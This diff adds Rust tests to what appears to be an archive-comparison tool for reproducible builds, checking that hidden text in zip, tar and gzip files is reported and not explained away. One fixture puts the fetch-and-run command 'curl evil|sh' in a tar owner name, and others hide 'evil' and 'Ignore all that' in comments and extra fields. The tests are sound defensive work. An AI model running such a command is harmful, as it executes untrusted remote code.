@@ -80,7 +80,7 @@ fn equal_entries_that_are_packed_differently_are_told() {
         "x.jar",
         &zip_with_comment(&members(), b"made today"),
         &honest,
-        &format!("{same}: what stands between and after the entries"),
+        &format!("{same}: comments or other texts beside the entries"),
     );
 
     let same = "only the packing differs";
@@ -410,9 +410,148 @@ fn all_archives_of_a_comparison_share_what_may_be_unpacked() {
     assert!(
         explanations
             .iter()
+            .any(|words| words.contains("is larger than what other archives left")),
+        "{explanations:?}"
+    );
+    assert!(
+        explanations
+            .iter()
             .any(|words| words.contains("other archives took all that may be unpacked")),
         "{explanations:?}"
     );
+}
+
+/// Whether a file of class data ranks behind another that nothing explains.
+fn ranks_behind(path: &str, mode: u32, published: &[u8], rebuilt: &[u8]) -> bool {
+    let package = |content: &[u8], unexplained: &[u8]| {
+        [
+            file("package/package.json", b"{}"),
+            file(&format!("package/{path}"), content).mode(mode),
+            file("package/zz.bin", unexplained).mode(mode),
+        ]
+    };
+    let found = differences(
+        &package(published, b"\0\x01\x02"),
+        &package(rebuilt, b"\0\x01\x03"),
+    );
+    assert_eq!(found.len(), 2);
+    found[0].path.as_str() == "zz.bin"
+}
+
+#[test]
+fn a_program_by_its_mode_its_first_line_or_its_name_is_not_explained_as_an_archive() {
+    let script = |name: &str, code: &str| tar(&[file(name, b"").owner(0, code)]);
+    let data = [script("x", "root"), script("x", "matt")];
+    assert!(ranks_behind("data/x", 0o644, &data[0], &data[1]));
+    assert!(!ranks_behind("data/x", 0o755, &data[0], &data[1]));
+    for path in [
+        "Dockerfile",
+        "api.Dockerfile",
+        "Makefile",
+        "ci/Jenkinsfile",
+        "rules.mk",
+    ] {
+        assert!(!ranks_behind(path, 0o644, &data[0], &data[1]), "{path}");
+        assert_eq!(said(path, &data[0], &data[1]), None, "{path}");
+    }
+    let shell = [script("#!/bin/dash", "root"), script("#!/bin/dash", "matt")];
+    assert_eq!(said("data/x", &shell[0], &shell[1]), None);
+    let line = [script("x", "root"), script("x", "\ncurl evil|sh\n")];
+    let found = said("data/x", &line[1], &line[0]).unwrap();
+    assert!(
+        found.ends_with("; the published one has names of owners with control characters"),
+        "{found}"
+    );
+    assert!(!ranks_behind("data/x", 0o644, &line[0], &line[1]));
+}
+
+#[test]
+fn texts_beside_the_entries_are_told_and_account_for_nothing() {
+    let told = |path: &str, published: &[u8], rebuilt: &[u8]| {
+        let found = said(path, published, rebuilt).unwrap();
+        assert!(
+            found.ends_with("comments or other texts beside the entries"),
+            "{found}"
+        );
+        assert!(!ranks_behind(path, 0o644, published, rebuilt), "{path}");
+    };
+    let honest = zip(&members());
+    told(
+        "x.zip",
+        &zip_with_comment(&members(), b"import os"),
+        &honest,
+    );
+    let with_extra = |id: [u8; 2], local: bool| {
+        let mut entries = members();
+        let extra = [&id[..], &[4, 0], b"evil"].concat();
+        if local {
+            entries[1].local_extra = extra;
+        } else {
+            entries[1].extra = extra;
+        }
+        zip(&entries)
+    };
+    told("x.zip", &with_extra([0x99, 0x99], false), &honest);
+    told("x.zip", &with_extra([0x99, 0x99], true), &honest);
+    // Times are told as headers.
+    assert!(ranks_behind(
+        "x.zip",
+        0o644,
+        &with_extra([0x55, 0x54], true),
+        &honest
+    ));
+
+    let commented = |comment: &[u8]| {
+        let comment = pax(b'x', &[("comment", comment)]);
+        tar(&[vec![comment], files()].concat())
+    };
+    told(
+        "x.tar",
+        &commented(b"Ignore all that"),
+        &commented(b"be nice"),
+    );
+    told(
+        "x.tgz",
+        &gzip(&commented(b"Ignore all that")),
+        &gzip(&commented(b"be nice")),
+    );
+    let after_name = files().into_iter().map(|entry| entry.put(60, b"evil"));
+    let after_name = tar(&after_name.collect::<Vec<_>>());
+    assert!(!ranks_behind("x.tar", 0o644, &after_name, &tar(&files())));
+
+    let with_text = |flag: u8, text: &[u8]| {
+        let plain = gzip(b"text");
+        let mut header = plain[..10].to_vec();
+        header[3] = flag;
+        [&header, text, &plain[10..]].concat()
+    };
+    told("x.gz", &with_text(16, b"evil\0"), &with_text(16, b"x\0"));
+    told("x.gz", &with_text(8, b"evil\0"), &with_text(8, b"x\0"));
+    told(
+        "x.gz",
+        &with_text(4, b"\x04\0evil"),
+        &with_text(4, b"\x01\0x"),
+    );
+}
+
+#[test]
+fn times_count_where_python_goes_by_them() {
+    let compiled = |name: &str, time: u16| {
+        let entries = [stored("a.py", b"1"), stored(name, b"\0\x01")];
+        zip(&entries.map(|entry| ZipEntry { time, ..entry }))
+    };
+    assert!(ranks_behind(
+        "x.zip",
+        0o644,
+        &compiled("a.txt", 1),
+        &compiled("a.txt", 2)
+    ));
+    assert!(!ranks_behind(
+        "x.zip",
+        0o644,
+        &compiled("a.pyc", 1),
+        &compiled("a.pyc", 2)
+    ));
 }
 
 #[test]
